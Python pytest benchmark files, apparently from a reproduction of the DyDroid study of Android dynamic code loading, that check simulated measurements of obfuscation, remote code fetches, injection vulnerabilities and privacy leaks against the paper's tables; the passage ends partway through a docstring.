from benchmarks.paper_compare import fmt_compare, record_table

PAPER = {
    "system-time-before-release": 0.7912,
    "airplane-wifi-on": 0.6154,
    "airplane-wifi-off": 0.5824,
    "location-off": 0.7692,
}


def test_table08_runtime_configs(benchmark, report):
    table = benchmark(report.runtime_config_table)

    lines = [report.render_runtime_config_table(), "", "shape check vs paper:"]
    for config, paper_rate in PAPER.items():
        bucket = table[config]
        measured = bucket["loaded"] / bucket["total"] if bucket["total"] else 0.0
        lines.append(
            fmt_compare(config, "{:.2%}".format(paper_rate), "{:.2%}".format(measured))
        )
    record_table("Table VIII (runtime configurations)", "\n".join(lines))

    assert set(table) == set(PAPER)
    total = report.malicious_file_count()
    assert total >= 1
    for config, bucket in table.items():
        assert bucket["total"] == total
        assert bucket["loaded"] <= total
    # re-enabled WiFi can only help connectivity-gated loaders.
    assert table["airplane-wifi-on"]["loaded"] >= table["airplane-wifi-off"]["loaded"]
    if total >= 20:  # rates are meaningful only with enough planted files
        for config, paper_rate in PAPER.items():
            measured = table[config]["loaded"] / total
            assert abs(measured - paper_rate) < 0.25, (config, measured)
