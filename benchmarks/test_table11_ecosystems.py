"""Table XI: modern DCL ecosystem hazards (the scenario-pack extension).

No paper counterpart -- the 2016 landscape predates plugin frameworks at
scale, split-APK delivery, multi-hop droppers, and self-debloating apps.
The pack's calibration targets stand in for the paper column: of 58,739
apps, 2,400 plugin hosts, 9,800 split-APK shippers, 310 staged
downloaders, and 1,150 self-debloaters.  Shape: namespace collisions
dominate (every plugin pack and feature split shadows host code), dropper
chains are the rare tail, every class appears at least once.
"""

import pytest

from benchmarks.conftest import BENCH_APPS, BENCH_SEED
from benchmarks.paper_compare import fmt_compare, record_table
from repro.core.config import DyDroidConfig
from repro.core.pipeline import DyDroid
from repro.corpus.generator import generate_corpus
from repro.corpus.profiles import PAPER_TOTAL_APPS
from repro.ecosystems import ALL_HAZARD_CLASSES, ECOSYSTEMS, ecosystems_profile


@pytest.fixture(scope="module")
def ecosystems_report():
    """A pack-enabled corpus; the shared session corpus keeps the knobs 0."""
    corpus = generate_corpus(
        BENCH_APPS, seed=BENCH_SEED, profile=ecosystems_profile()
    )
    return DyDroid(DyDroidConfig(train_samples_per_family=3)).measure(corpus)


def test_table11_ecosystems(benchmark, ecosystems_report):
    table = benchmark(ecosystems_report.ecosystems_table)

    lines = [ecosystems_report.render_ecosystems_table(), "", "calibration vs targets:"]
    for key, spec in sorted(ECOSYSTEMS.items()):
        planted = max(1, round(spec.paper_count * BENCH_APPS / PAPER_TOTAL_APPS))
        lines.append(
            fmt_compare(
                key,
                "{} of {}".format(spec.paper_count, PAPER_TOTAL_APPS),
                "{} of {} planted".format(planted, BENCH_APPS),
            )
        )
    record_table("Table XI (ecosystem hazards)", "\n".join(lines))

    classes = table["classes"]
    # every hazard class appears at least once...
    for hazard in ALL_HAZARD_CLASSES:
        assert hazard in classes, hazard
        assert classes[hazard]["n_apps"] >= 1
        assert classes[hazard]["n_payloads"] >= classes[hazard]["n_apps"]
    # ...with the split-APK-driven collisions dominating, as calibrated.
    assert (
        classes["namespace-collision"]["n_apps"]
        == max(row["n_apps"] for row in classes.values())
    )
    # plugin hijacks ride exactly the plugin hosts; droppers are the tail.
    assert classes["plugin-hijack"]["n_apps"] >= classes["dropper-chain"]["n_apps"]
    # planted volume matches the calibration targets (1:1 at any scale).
    for key, flag in (
        ("plugin-host", "plugin-hijack"),
        ("self-debloating", "shelf-reload"),
    ):
        expected = max(
            1, round(ECOSYSTEMS[key].paper_count * BENCH_APPS / PAPER_TOTAL_APPS)
        )
        assert classes[flag]["n_apps"] == expected, key
    assert table["hazard_apps"] >= sum(
        1 for row in classes.values() if row["n_apps"]
    )
