"""Table II: dynamic-analysis outcome summary.

Paper (out of 40,849 DEX / 25,287 native candidates):
  Failure 1.21% / 1.31%, Rewriting failure 1.11% / 0.53%,
  No activity 0.02% / 0.05%, Crash 0.08% / 0.73%,
  Exercised 98.79% / 98.69%, Intercepted 41.05% / 54.37%.
"""

from benchmarks.paper_compare import fmt_compare, record_table

PAPER = {
    "dex": {"failure": 0.0121, "exercised": 0.9879, "intercepted": 0.4105},
    "native": {"failure": 0.0131, "exercised": 0.9869, "intercepted": 0.5437},
}


def test_table02_dynamic_summary(benchmark, report):
    summary = benchmark(report.dynamic_summary)

    lines = [report.render_dynamic_summary(), "", "shape check vs paper:"]
    for side in ("dex", "native"):
        row = summary[side]
        total = row["candidates"]
        for key in ("failure", "exercised", "intercepted"):
            measured = row[key] / total
            lines.append(
                fmt_compare(
                    "{} {}".format(side.upper(), key),
                    "{:.2%}".format(PAPER[side][key]),
                    "{:.2%}".format(measured),
                )
            )
    record_table("Table II (dynamic summary)", "\n".join(lines))

    # Shape: ~99% exercised, interception ~41% (dex) / ~54% (native), and
    # native interception rate above DEX as the paper reports.
    for side in ("dex", "native"):
        row = summary[side]
        assert row["exercised"] / row["candidates"] > 0.95
        assert row["failure"] / row["candidates"] < 0.05
    dex_rate = summary["dex"]["intercepted"] / summary["dex"]["candidates"]
    native_rate = summary["native"]["intercepted"] / summary["native"]["candidates"]
    assert 0.30 <= dex_rate <= 0.52
    assert 0.42 <= native_rate <= 0.68
    assert native_rate > dex_rate
