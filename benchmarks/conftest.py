"""Shared benchmark fixtures: one measured corpus, all tables from it.

The corpus scale defaults to 1/50 of the paper's 58,739 apps and can be
raised with ``DYDROID_BENCH_APPS`` (e.g. ``DYDROID_BENCH_APPS=5874`` for a
1/10-scale run).  Every bench registers its paper-vs-measured rendering via
:func:`record_table`; the collected blocks are printed in the terminal
summary so ``pytest benchmarks/ --benchmark-only | tee bench_output.txt``
captures the regenerated tables alongside the timings.
"""

import os
from typing import Dict

import pytest

from repro.core.config import DyDroidConfig
from repro.core.pipeline import DyDroid
from repro.corpus.generator import generate_corpus

BENCH_APPS = int(os.environ.get("DYDROID_BENCH_APPS", "1000"))
BENCH_SEED = int(os.environ.get("DYDROID_BENCH_SEED", "42"))

from benchmarks.paper_compare import fmt_compare, record_table, rendered_tables  # noqa: F401


@pytest.fixture(scope="session")
def corpus():
    return generate_corpus(BENCH_APPS, seed=BENCH_SEED)


@pytest.fixture(scope="session")
def dydroid():
    return DyDroid(DyDroidConfig(train_samples_per_family=3))


@pytest.fixture(scope="session")
def report(corpus, dydroid):
    return dydroid.measure(corpus)


def pytest_terminal_summary(terminalreporter, exitstatus, config):
    tables = rendered_tables()
    if not tables:
        return
    terminalreporter.section(
        "DyDroid reproduction: paper vs measured (corpus = {} apps, seed = {})".format(
            BENCH_APPS, BENCH_SEED
        )
    )
    for experiment_id in sorted(tables):
        terminalreporter.write_line("")
        terminalreporter.write_line("=== {} ===".format(experiment_id))
        for line in tables[experiment_id].splitlines():
            terminalreporter.write_line(line)
