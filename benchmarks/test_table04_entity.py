"""Table IV: responsible entity of DCL.

Paper: DEX -- 3rd-party 99.92%, own 0.30%, both 0.22% (of 16,768 apps);
Native -- 3rd-party 86.08%, own 16.58%, both 2.66% (of 13,748 apps).
Shape: third-party dominates both sides; native has an order of magnitude
more own-code loading than DEX.
"""

from benchmarks.paper_compare import fmt_compare, record_table

PAPER = {
    "dex": {"third": 0.9992, "own": 0.0030, "both": 0.0022},
    "native": {"third": 0.8608, "own": 0.1658, "both": 0.0266},
}


def test_table04_entity(benchmark, report):
    table = benchmark(report.entity_table)

    lines = [report.render_entity_table(), "", "shape check vs paper:"]
    for side in ("dex", "native"):
        total = table[side]["apps"]
        for bucket in ("third", "own", "both"):
            lines.append(
                fmt_compare(
                    "{} {}".format(side.upper(), bucket),
                    "{:.2%}".format(PAPER[side][bucket]),
                    "{:.2%}".format(table[side][bucket] / total if total else 0.0),
                )
            )
    record_table("Table IV (responsible entity)", "\n".join(lines))

    dex, native = table["dex"], table["native"]
    assert dex["third"] / dex["apps"] > 0.95           # paper: 99.92%
    assert dex["own"] / dex["apps"] < 0.05
    assert native["third"] / native["apps"] > 0.70     # paper: 86.08%
    assert 0.05 < native["own"] / native["apps"] < 0.35
    # own-code loading is far more common for native than for DEX.
    assert native["own"] / native["apps"] > dex["own"] / dex["apps"]
