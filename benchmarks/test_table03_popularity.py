"""Table III: DCL vs application popularity.

Paper means: DEX 60,010 downloads / 2,448 ratings / 3.91 stars vs
Without DEX 52,848 / 2,318 / 3.77; Native 288,995 / 8,668 / 3.82 vs
Without Native 75,127 / 1,119 / 3.79.  The shape to hold: DCL groups beat
their complements on every popularity metric, with the native gap largest.
"""

from benchmarks.paper_compare import fmt_compare, record_table

PAPER = {
    "DEX": (60_010, 2_448, 3.91),
    "Without DEX": (52_848, 2_318, 3.77),
    "Native": (288_995, 8_668, 3.82),
    "Without Native": (75_127, 1_119, 3.79),
}


def test_table03_popularity(benchmark, report):
    table = benchmark(report.popularity)

    lines = [report.render_popularity(), "", "shape check vs paper:"]
    for group, (downloads, ratings, stars) in PAPER.items():
        measured = table[group]
        lines.append(
            fmt_compare(
                group,
                "{:,} dl / {:,} r / {:.2f}".format(downloads, ratings, stars),
                "{:,.0f} dl / {:,.0f} r / {:.2f}".format(
                    measured["downloads"], measured["n_ratings"], measured["rating"]
                ),
            )
        )
    record_table("Table III (popularity)", "\n".join(lines))

    # Who wins: DCL apps are more popular than their complements.
    assert table["DEX"]["downloads"] > table["Without DEX"]["downloads"]
    assert table["Native"]["downloads"] > table["Without Native"]["downloads"]
    assert table["Native"]["n_ratings"] > table["Without Native"]["n_ratings"]
    assert table["DEX"]["rating"] >= table["Without DEX"]["rating"] - 0.05
    # By what factor: the native gap dwarfs the DEX gap (paper: ~3.8x vs ~1.1x).
    native_factor = table["Native"]["downloads"] / table["Without Native"]["downloads"]
    dex_factor = table["DEX"]["downloads"] / table["Without DEX"]["downloads"]
    assert native_factor > dex_factor
    assert native_factor > 1.5


def test_table03_association_is_significant(benchmark, report):
    """Beyond the paper: the DCL-popularity association passes a
    Mann-Whitney test (the paper only compares means and disclaims
    causality; we quantify the association)."""
    from repro.core.stats import popularity_association

    results = benchmark(popularity_association, report)
    by_key = {(r.group, r.metric): r for r in results}
    assert by_key[("Native", "downloads")].significant
    assert by_key[("Native", "n_ratings")].significant
