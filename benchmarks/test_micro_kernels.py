"""Micro-benchmarks of the hot kernels underlying every experiment.

These pin the cost of the primitives so table-level regressions can be
bisected: DEX (de)serialization, WL-hash signatures, smali round-trips,
interpreter throughput, and taint-graph reachability.
"""

import random

from repro.android.builders import MethodBuilder, class_builder
from repro.android.bytecode import Cmp
from repro.android.dex import DexFile
from repro.runtime.device import Device
from repro.runtime.instrumentation import FlowNode, Instrumentation
from repro.runtime.vm import DalvikVM
from repro.dynamic.download_tracker import DownloadTracker
from repro.static_analysis.malware.acfg import binary_signatures
from repro.static_analysis.malware.families import swiss_code_monkeys_dex
from repro.static_analysis.smali_asm import assemble, disassemble


def test_dex_serialization_kernel(benchmark):
    dex = swiss_code_monkeys_dex(0)
    data = dex.to_bytes()

    def roundtrip():
        return DexFile.from_bytes(data).to_bytes()

    assert benchmark(roundtrip) == data


def test_acfg_signature_kernel(benchmark):
    dex = swiss_code_monkeys_dex(0)
    signatures = benchmark(binary_signatures, dex)
    assert len(signatures) == len(list(dex.iter_methods()))


def test_smali_roundtrip_kernel(benchmark):
    dex = swiss_code_monkeys_dex(0)
    text = disassemble(dex)

    def roundtrip():
        return assemble(text)

    assert benchmark(roundtrip).to_bytes() == dex.to_bytes()


def test_interpreter_throughput(benchmark):
    """Instructions/second on a tight arithmetic loop (10k iterations)."""
    cls = class_builder("bench.Loop")
    b = MethodBuilder("spin", "bench.Loop", is_static=True)
    i = b.new_int(0)
    total = b.new_int(0)
    limit = b.new_int(10_000)
    one = b.new_int(1)
    b.label("head")
    b.if_cmp(Cmp.GE, i, limit, "done")
    from repro.android import bytecode as bc

    b.emit(bc.binop("add", total, total, i))
    b.emit(bc.binop("add", i, i, one))
    b.goto("head")
    b.label("done")
    b.ret(total)
    cls.add_method(b.build())

    vm = DalvikVM(Device(), Instrumentation(), instruction_budget=10_000_000)
    vm.load_dex(DexFile(classes=[cls]))

    result = benchmark(vm.run_entry, "bench.Loop", "spin", [])
    assert result == sum(range(10_000))


def test_flow_graph_reachability_kernel(benchmark):
    """is_remote() over a 2,000-edge flow graph."""
    rng = random.Random(0)
    tracker = DownloadTracker()
    instrumentation = Instrumentation(block_file_ops=False)
    tracker.attach(instrumentation)

    url = FlowNode(key="URL@1", kind="URL", detail="http://src.example/a")
    previous = url
    for index in range(1_000):
        node = FlowNode(key="S@{}".format(index), kind="InputStream")
        instrumentation.emit_flow(previous, node, "InputStream->InputStream")
        previous = node
        # noise edges off the chain
        instrumentation.emit_flow(
            FlowNode(key="N@{}".format(index), kind="Buffer"),
            FlowNode(key="M@{}".format(index), kind="OutputStream"),
            "Buffer->OutputStream",
        )
    target = FlowNode(key="file:/data/final.jar", kind="File", detail="/data/final.jar")
    instrumentation.emit_flow(previous, target, "OutputStream->File")

    assert benchmark(tracker.is_remote, "/data/final.jar")
    assert not tracker.is_remote("/data/other.jar")
