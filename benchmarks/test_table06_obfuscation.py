"""Table VI: obfuscation technique adoption.

Paper (of 58,739 apps): lexical 89.95%, reflection 52.20%, native 23.40%,
DEX encryption 0.24% (140 apps), anti-decompilation 0.09% (54 apps).
Shape: the ordering lexical >> reflection >> native >> packing >
anti-decompilation, at roughly those rates.
"""

from benchmarks.paper_compare import fmt_compare, record_table

PAPER_RATES = {
    "Lexical": 0.8995,
    "Reflection": 0.5220,
    "Native": 0.2340,
    "DEX encryption": 0.0024,
    "Anti-decompilation": 0.0009,
}


def test_table06_obfuscation(benchmark, report):
    counts = benchmark(report.obfuscation_table)
    n = report.n_total

    lines = [report.render_obfuscation_table(), "", "shape check vs paper:"]
    for technique, paper_rate in PAPER_RATES.items():
        lines.append(
            fmt_compare(
                technique,
                "{:.2%}".format(paper_rate),
                "{:.2%}".format(counts[technique] / n),
            )
        )
    record_table("Table VI (obfuscation adoption)", "\n".join(lines))

    assert 0.82 <= counts["Lexical"] / n <= 0.96
    assert 0.44 <= counts["Reflection"] / n <= 0.60
    assert 0.12 <= counts["Native"] / n <= 0.34
    assert counts["DEX encryption"] >= 1
    assert counts["Anti-decompilation"] >= 1
    # strict ordering, as in the paper.
    assert (
        counts["Lexical"]
        > counts["Reflection"]
        > counts["Native"]
        > counts["DEX encryption"]
        >= counts["Anti-decompilation"]
    )
