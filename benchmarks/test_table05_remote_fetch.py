"""Table V: apps executing remotely fetched binaries.

Paper: 27 of 58,739 apps (all via Baidu advertisement libraries, e.g. two
files in JAR and APK formats from http://mobads.baidu.com/ads/pa/).  Shape:
a tiny population, every case attributed to the Baidu ad SDK's domain, and
detected through the download tracker's URL -> File flow graph.
"""

from benchmarks.conftest import BENCH_APPS
from benchmarks.paper_compare import fmt_compare, record_table

PAPER_COUNT = 27
PAPER_TOTAL = 58_739


def test_table05_remote_fetch(benchmark, report):
    rows = benchmark(report.remote_fetch_apps)

    expected_scaled = max(1, round(PAPER_COUNT * BENCH_APPS / PAPER_TOTAL))
    lines = [
        report.render_remote_fetch(),
        "",
        "shape check vs paper:",
        fmt_compare(
            "apps loading remote code",
            "{} / {}".format(PAPER_COUNT, PAPER_TOTAL),
            "{} / {} (planted target {})".format(len(rows), BENCH_APPS, expected_scaled),
        ),
    ]
    record_table("Table V (remote fetch)", "\n".join(lines))

    assert len(rows) == expected_scaled
    for package, urls in rows:
        assert urls, package
        assert all(url.startswith("http://mobads.baidu.com/ads/pa/") for url in urls)
        # the paper's observed pattern: both a JAR and an APK are fetched.
        assert any(url.endswith(".jar") for url in urls)
        assert any(url.endswith(".apk") for url in urls)


def test_download_tracker_flow_chain(benchmark, report):
    """The Table I rule chain URL->InputStream->Buffer->OutputStream->File
    is the witness for every remote verdict."""
    remote_apps = [a for a in report.apps if a.remote_payloads()]
    assert remote_apps
    app = remote_apps[0]
    payload = app.remote_payloads()[0]
    tracker = app.dynamic.tracker

    def witness():
        return tracker.flow_path(payload.remote_sources[0], payload.path)

    chain = benchmark(witness)
    assert chain[0] == "URL" and chain[-1] == "File"
