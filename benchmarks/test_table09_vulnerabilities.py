"""Table IX: apps vulnerable to code injection through risky DCL.

Paper: 14 apps -- 7 loading DEX from pre-KitKat external storage (e.g.
com.longtukorea.snmg caching a JAR under /mnt/sdcard/im_sdk/jar/) and 7
loading native code from other apps' internal storage (6 of them trusting
com.adobe.air's libCore.so).  Shape: both variants present, external-DEX
cases confirmed as supporting OS < 4.4, other-app cases naming the trusted
companion package.
"""

from benchmarks.conftest import BENCH_APPS
from benchmarks.paper_compare import fmt_compare, record_table

PAPER_TOTAL = 58_739
PAPER_DEX_EXTERNAL = 7
PAPER_NATIVE_OTHER = 7


def test_table09_vulnerabilities(benchmark, report, corpus):
    table = benchmark(report.vulnerability_table)

    dex_external = table.get(("dex", "external-storage"), [])
    native_other = table.get(("native", "other-app-internal-storage"), [])
    expected_dex = max(1, round(PAPER_DEX_EXTERNAL * BENCH_APPS / PAPER_TOTAL))
    expected_native = max(1, round(PAPER_NATIVE_OTHER * BENCH_APPS / PAPER_TOTAL))

    lines = [
        report.render_vulnerability_table(),
        "",
        "shape check vs paper:",
        fmt_compare(
            "DEX / external storage (<4.4)",
            "{} apps".format(PAPER_DEX_EXTERNAL),
            "{} apps (planted target {})".format(len(dex_external), expected_dex),
        ),
        fmt_compare(
            "Native / other apps' internal storage",
            "{} apps".format(PAPER_NATIVE_OTHER),
            "{} apps (planted target {})".format(len(native_other), expected_native),
        ),
    ]
    record_table("Table IX (code-injection vulnerabilities)", "\n".join(lines))

    assert len(dex_external) == expected_dex
    assert len(native_other) == expected_native

    by_package = {record.package: record for record in corpus}
    for package, _ in dex_external:
        record = by_package[package]
        # verified as supporting OS versions lower than 4.4 (paper note).
        assert record.apk.manifest.supports_pre_kitkat()
    for package, _ in native_other:
        record = by_package[package]
        assert record.blueprint.vuln_other_app in (
            "com.adobe.air", "com.devicescape.offloader",
        )

    # no false positives: findings only on planted apps.
    planted = {r.package for r in corpus if r.blueprint.vuln_kind}
    found = {pkg for rows in table.values() for pkg, _ in rows}
    assert found == planted


def test_vulnerability_classifier_kernel(benchmark, corpus):
    """Microbenchmark: full risky-load classification for one app."""
    from repro.static_analysis.vulnerability import classify_loads
    from repro.runtime.instrumentation import DexLoadEvent

    record = next(r for r in corpus if r.blueprint.vuln_kind == "dex-external")
    manifest = record.apk.manifest
    events = [
        DexLoadEvent(
            dex_paths=("/mnt/sdcard/im_sdk/jar/cached.jar", "/data/data/{}/files/ok.jar".format(record.package)),
            odex_dir=None,
            loader_kind="DexClassLoader",
            call_site=None,
            stack=(),
            app_package=record.package,
            timestamp_ms=0,
        )
    ]

    findings = benchmark(
        classify_loads, record.package, manifest, events
    )
    assert len(findings) == 1
