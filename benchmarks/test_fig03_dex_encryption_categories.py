"""Figure 3: DEX-encryption apps per application category.

Paper: 140 packed apps, with Entertainment, Tools, and Shopping playing
"a dominant role" (smart-TV remotes, antivirus tools, payment apps).
Shape: those three categories hold the plurality of packed apps.
"""

from benchmarks.paper_compare import fmt_compare, record_table
from repro.corpus.profiles import FIG3_CATEGORY_WEIGHTS

DOMINANT = ("Entertainment", "Tools", "Shopping")


def test_fig03_dex_encryption_categories(benchmark, report):
    counts = benchmark(report.dex_encryption_by_category)

    total = sum(counts.values())
    dominant_share = sum(counts.get(category, 0) for category in DOMINANT) / total
    lines = [
        report.render_fig3(),
        "",
        "shape check vs paper:",
        fmt_compare(
            "Entertainment+Tools+Shopping share",
            "dominant (~{:.0%} of 140)".format(sum(FIG3_CATEGORY_WEIGHTS[c] for c in DOMINANT)),
            "{:.0%} of {}".format(dominant_share, total),
        ),
    ]
    record_table("Figure 3 (DEX encryption by category)", "\n".join(lines))

    assert total >= 1
    # every packed app lands in a Figure 3 category...
    assert set(counts) <= set(FIG3_CATEGORY_WEIGHTS)
    # ...and at larger scales the three dominant categories lead.
    if total >= 10:
        assert dominant_share >= 0.4
        top = max(counts, key=counts.get)
        assert top in DOMINANT
