"""Shared paper-vs-measured registry for the benchmark suite.

Lives outside conftest.py so the pytest-plugin instance of the conftest and
the ``benchmarks.conftest`` import in test modules see one registry.
"""

from typing import Dict

_RENDERED: Dict[str, str] = {}


def record_table(experiment_id: str, text: str) -> None:
    """Register a rendered paper-vs-measured block for the summary."""
    _RENDERED[experiment_id] = text


def rendered_tables() -> Dict[str, str]:
    return dict(_RENDERED)


def fmt_compare(label: str, paper: str, measured: str) -> str:
    return "  {:<44} paper: {:<28} measured: {}".format(label, paper, measured)
