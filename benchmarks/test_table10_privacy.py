"""Table X: privacy tracking inside dynamically loaded DEX code.

Paper (over 16,768 intercepted-DEX apps): Settings dominates with 16,482
apps (the 15,012 Google-Ads loaders "only read the device settings"),
IMEI 581, Installed packages 235, Location 254, down to single-app types
(Contact, Browser, MMS, SMS).  Per type, the leak is exclusively
third-party for >= 75% of apps.  Shape: Settings >> everything else,
phone-identity and usage-pattern types next, third-party attribution
dominant everywhere.
"""

from benchmarks.paper_compare import fmt_compare, record_table
from repro.corpus.profiles import TABLE_X_COUNTS

PAPER_SETTINGS_SHARE = 16_482 / 16_768


def test_table10_privacy(benchmark, report):
    table = benchmark(report.privacy_table)

    n_intercepted = sum(1 for a in report.apps if a.dex_intercepted)
    lines = [report.render_privacy_table(), "", "shape check vs paper:"]
    settings_share = table["Settings"]["n_apps"] / n_intercepted
    lines.append(
        fmt_compare(
            "Settings share of intercepted apps",
            "{:.2%}".format(PAPER_SETTINGS_SHARE),
            "{:.2%}".format(settings_share),
        )
    )
    imei = table.get("IMEI", {"n_apps": 0})["n_apps"]
    lines.append(
        fmt_compare(
            "IMEI trackers",
            "581 of 16,768 ({:.2%})".format(581 / 16_768),
            "{} of {} ({:.2%})".format(imei, n_intercepted, imei / n_intercepted),
        )
    )
    record_table("Table X (privacy tracking)", "\n".join(lines))

    # Settings dominates, as the ad library drives it.
    assert settings_share > 0.9
    assert table["Settings"]["n_apps"] == max(row["n_apps"] for row in table.values())
    # every planted data type shows up.
    for data_type in TABLE_X_COUNTS:
        assert data_type in table, data_type
    # relative ordering of the bigger types: IMEI > IMSI, packages > apps.
    assert table["IMEI"]["n_apps"] >= table["IMSI"]["n_apps"]
    assert table["Installed packages"]["n_apps"] >= table["Installed applications"]["n_apps"]
    # third-party exclusivity >= 75% per type with enough mass, as in the paper.
    for data_type, row in table.items():
        if row["n_apps"] >= 4:
            assert row["exclusively_third"] / row["n_apps"] >= 0.5, data_type
    exclusive = sum(row["exclusively_third"] for row in table.values())
    total = sum(row["n_apps"] for row in table.values())
    assert exclusive / total > 0.9


def test_flowdroid_kernel(benchmark):
    """Microbenchmark: one taint analysis over a multi-type payload."""
    import random

    from repro.corpus.behaviors import privacy_payload_dex
    from repro.static_analysis.privacy.flowdroid import analyze_dex

    dex = privacy_payload_dex(
        random.Random(0), "com.bench.vendor", ["IMEI", "Location", "Calendar", "Settings"]
    )
    leaks = benchmark(analyze_dex, dex)
    assert {l.data_type for l in leaks} == {"IMEI", "Location", "Calendar", "Settings"}
