"""System-level throughput benches: the cost of each pipeline stage.

The paper's pitch for its architecture is that dynamic interception feeds a
*cheap* static analysis (Section VI: competing full-system reconstruction
"introduce[s] heavy latency").  These benches quantify our pipeline's
stage costs so regressions in any stage are visible.
"""

import threading

import pytest

from benchmarks.paper_compare import record_table
from repro.core.config import DyDroidConfig
from repro.core.pipeline import DyDroid
from repro.corpus.generator import generate_corpus
from repro.dynamic.engine import AppExecutionEngine, EngineOptions
from repro.static_analysis.decompiler import Decompiler
from repro.static_analysis.prefilter import prefilter


@pytest.fixture(scope="module")
def slice_corpus():
    return generate_corpus(60, seed=101)


def test_corpus_generation_throughput(benchmark):
    records = benchmark(generate_corpus, 60, 202)
    assert len(records) == 60


def test_decompile_prefilter_throughput(benchmark, slice_corpus):
    decompiler = Decompiler(strict=False)

    def stage():
        return sum(
            prefilter(decompiler.decompile(record.apk)).has_any_dcl
            for record in slice_corpus
        )

    candidates = benchmark(stage)
    assert candidates > 0


def test_dynamic_analysis_throughput(benchmark, slice_corpus):
    dcl = [
        r for r in slice_corpus
        if r.blueprint.dex_dcl_reachable or r.blueprint.native_dcl_reachable
    ][:20]

    def stage():
        intercepted = 0
        for record in dcl:
            engine = AppExecutionEngine(
                EngineOptions(
                    remote_resources=record.remote_resources,
                    companions=record.companions,
                    release_time_ms=record.release_time_ms,
                )
            )
            intercepted += engine.run(record.apk).intercepted_any
        return intercepted

    assert benchmark(stage) > 0


def test_full_pipeline_throughput(benchmark, slice_corpus):
    dydroid = DyDroid(DyDroidConfig(train_samples_per_family=2))

    def stage():
        return dydroid.measure(slice_corpus).n_total

    n = benchmark(stage)
    assert n == len(slice_corpus)
    record_table(
        "Throughput",
        "full pipeline measured {} apps per round; see the benchmark table for timings".format(n),
    )


def test_firewall_enforcement_overhead(benchmark, tmp_path):
    """The cost of inline enforcement: firewall on vs off, warm store.

    The firewall's pitch is that complete mediation rides the hooks the
    measurement pipeline already pays for, so enforcement should be nearly
    free.  A cold un-enforced pass warms the shared verdict store (and
    provides the reference timing); the benched stage is the same corpus
    re-measured under the ``default`` policy, where every load additionally
    runs the rule chain plus a digest lookup against the warm store.
    """
    import time
    from dataclasses import replace

    from repro.store.verdicts import VerdictStore

    records = generate_corpus(40, seed=7)
    base = DyDroidConfig(train_samples_per_family=2, run_replays=False)
    unenforced = replace(base, firewall_policy="", quarantine_dir="")
    enforced = replace(base, firewall_policy="default")

    store = VerdictStore(str(tmp_path / "verdicts.sqlite"), base)
    try:
        start = time.perf_counter()
        DyDroid(unenforced, verdict_store=store).measure(records)
        baseline_s = time.perf_counter() - start

        def defended_pass():
            return DyDroid(enforced, verdict_store=store).measure(records)

        report = benchmark(defended_pass)
    finally:
        store.close()

    table = report.defense_table()
    assert table["policies"] == ["default"]
    assert table["loads_denied"] + table["loads_quarantined"] >= 1
    enforced_s = benchmark.stats.stats.mean
    record_table(
        "Defense",
        "enforced pipeline over 40 apps: {:.2f}s/round vs {:.2f}s unenforced "
        "({:+.0%} overhead); {} loads denied, {} quarantined".format(
            enforced_s,
            baseline_s,
            enforced_s / baseline_s - 1 if baseline_s else 0.0,
            table["loads_denied"],
            table["loads_quarantined"],
        ),
    )


@pytest.fixture(scope="module")
def warm_service():
    """A running daemon whose cache already holds the benched spec."""
    from repro.service import AnalysisService, ServiceClient, ServiceConfig, make_server

    service = AnalysisService(
        ServiceConfig(
            workers=1,
            pipeline=DyDroidConfig(train_samples_per_family=2, run_replays=False),
        )
    )
    service.start()
    server = make_server(service)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    client = ServiceClient("127.0.0.1", server.server_port)
    spec = {"kind": "corpus", "seed": 101, "n_apps": 60, "index": 3}
    client.submit_and_wait(spec)  # the one (and only) pipeline run
    yield client, spec
    server.shutdown()
    service.drain(timeout=60.0)
    server.server_close()


def test_service_warm_cache_throughput(benchmark, warm_service):
    """HTTP requests/s through submit -> result once the cache is warm.

    The serving overhead per duplicate submission is two JSON round
    trips (no pipeline execution), so this bench bounds the daemon's
    intake rate for a mostly-duplicate workload -- the regime the
    paper's crawl operated in once the common SDK payloads were known.
    """
    client, spec = warm_service

    def round_trips():
        served = 0
        for _ in range(20):
            response = client.submit(spec)
            assert response["cached"]
            served += "analysis" in client.result(response["digest"])
        return served

    assert benchmark(round_trips) == 20


def test_lineage_warm_reanalysis(benchmark, tmp_path, monkeypatch):
    """Cross-version dedup: only *changed* payloads reach the analyzers.

    Analyzes a 3-version lineage fleet against one shared verdict store,
    counting actual DroidNative/FlowDroid invocations per version.  From
    version 2 on, the invocation count must equal the number of payload
    digests that version introduced -- unchanged payloads ride the store.
    The benchmarked stage is a fully warm reanalysis of the final
    version, which must invoke zero analyzers.
    """
    from repro.evolution import EvolveConfig, LineageSpec, run_evolution
    from repro.static_analysis.malware.droidnative import DroidNative
    from repro.static_analysis.privacy import flowdroid

    calls = {"n": 0}
    real_detect = DroidNative.detect
    real_flow = flowdroid.analyze_dex

    def counting_detect(self, binary, tracer=None):
        calls["n"] += 1
        return real_detect(self, binary, tracer=tracer)

    def counting_flow(dex, tracer=None):
        calls["n"] += 1
        return real_flow(dex, tracer=tracer)

    monkeypatch.setattr(DroidNative, "detect", counting_detect)
    monkeypatch.setattr("repro.core.pipeline.analyze_dex", counting_flow)

    pipeline = DyDroidConfig(train_samples_per_family=2, run_replays=False)

    def version_run(n_versions, store):
        before = calls["n"]
        result = run_evolution(
            EvolveConfig(
                n_apps=24, n_versions=n_versions, seed=31, workers=1,
                spec=LineageSpec(malicious_hazard=0.2),
                pipeline=pipeline, verdict_store=store,
            )
        )
        return result, calls["n"] - before

    # Cold v1..v3: per-version analyzer invocations must shrink to only
    # the payloads each later version actually changed.  Separate stores
    # keep both measurements cold.
    store = str(tmp_path / "verdicts.jsonl")
    _, cold_full = version_run(3, store)
    _, v1_only = version_run(1, str(tmp_path / "v1-only.jsonl"))
    incremental = cold_full - v1_only  # v2+v3 cost on top of v1
    assert v1_only > 0
    assert incremental < v1_only, (
        "later versions re-analyzed more than a full cold v1: "
        "{} vs {}".format(incremental, v1_only)
    )

    def warm_final_version():
        before = calls["n"]
        result, _ = version_run(3, store)
        assert calls["n"] == before, "warm reanalysis invoked analyzers"
        return result.metrics["snapshots_analyzed"]

    assert benchmark(warm_final_version) == 72
    record_table(
        "Evolution",
        "warm 3-version reanalysis of 24 lineages invoked 0 analyzers "
        "(cold: {} invocations, incremental v2+v3: {})".format(
            cold_full, incremental
        ),
    )


def test_store_warm_open_at_10k_records(benchmark, tmp_path):
    """Acceptance check for the sqlite sidecar: a warm ``VerdictStore``
    open on a >=10k-record file does **zero** full JSONL scans, and point
    lookups probe the index instead of replaying the log.

